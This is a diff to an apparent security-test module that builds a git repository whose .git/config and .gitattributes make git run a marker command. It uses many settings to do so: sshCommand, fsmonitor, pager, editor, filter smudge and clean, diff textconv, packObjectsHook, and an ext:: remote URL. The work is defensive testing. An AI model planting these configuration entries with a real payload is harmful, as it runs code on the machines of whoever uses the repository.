@@ -1,5 +1,5 @@
 import type { Attack } from '../attack.ts';
-import { reference } from '../repository.ts';
+import { reference, tellTale } from '../repository.ts';
 
 /** Everything in a repository's own configuration that runs a program when git is used in it or fetches from it. */
 export default {
@@ -8,35 +8,39 @@ export default {
   fast: true,
   checks: ['highest-leads'],
   build: (repository) => {
-    const run = `touch /tmp/${repository.token} /var/tmp/${repository.token}`;
+    const run = tellTale(repository);
     repository.commit({
       ...reference('lab3'),
       '.gitattributes': '* filter=evil diff=evil export-subst\n*.ts working-tree-encoding=UTF-16 ident\n',
     });
+    // Who asks for changes of the files asks the monitor and the filters, if there is an index.
+    repository.git('read-tree', 'HEAD');
     repository.write(
       '.git/config',
       `[core]
 	repositoryformatversion = 0
 	bare = false
-	sshCommand = ${run}
+	sshCommand = "${run}"
 	fsmonitor = "${run}"
-	hooksPath = .git/hooks
-	pager = ${run}
-	editor = ${run}
+	hooksPath = /src/.git/hooks
+	alternateRefsCommand = "${run}"
+	pager = "${run}"
+	editor = "${run}"
 [uploadpack]
-	packObjectsHook = ${run}
+	packObjectsHook = "${run}"
 	allowAnySHA1InWant = true
 [filter "evil"]
-	smudge = ${run}
-	clean = ${run}
+	smudge = "${run}"
+	clean = "${run}"
+	required
 [diff "evil"]
-	textconv = ${run}
-	command = ${run}
+	textconv = "${run}"
+	command = "${run}"
 [protocol "ext"]
 	allow = always
 [remote "origin"]
-	url = ext::sh -c ${run}
-	uploadpack = ${run}
+	url = "ext::${run}"
+	uploadpack = "${run}"
 `,
     );
     for (const hook of [
